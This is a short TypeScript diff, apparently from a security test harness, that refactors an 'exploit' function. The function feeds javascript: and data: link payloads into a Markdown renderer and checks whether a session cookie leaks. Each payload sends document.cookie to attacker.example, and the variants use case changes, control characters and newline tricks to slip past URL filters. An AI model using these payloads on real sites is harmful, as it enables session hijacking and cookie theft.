@@ -31,16 +31,17 @@ function click(address: string): string {
   return page.location
 }
 
-export async function exploit(code: Code): Promise<boolean> {
-  const steal = `location='https://attacker.example/?'+document.cookie`
-  const targets = [
-    `javascript:${steal}`,
-    `JavaScript:${steal}`,
-    `\u0001javascript:${steal}`,
-    `javascript://example.com/%0a${steal}`,
-    `data:text/html,<script>${steal}</script>`,
-  ]
-  return targets.some((target) => {
+const steal = `location='https://attacker.example/?'+document.cookie`
+const forms = [
+  `javascript:${steal}`,
+  `JavaScript:${steal}`,
+  `\u0001javascript:${steal}`,
+  `javascript://example.com/%0a${steal}`,
+  `data:text/html,<script>${steal}</script>`,
+]
+
+export async function exploit(code: Code, _vary?: unknown, payloads = forms): Promise<boolean> {
+  return payloads.some((target) => {
     const scripts = scriptsOf(render(code, `See the [release notes](${target})`))
     return scripts.some((address) => click(address).endsWith('session=5e1f'))
   })
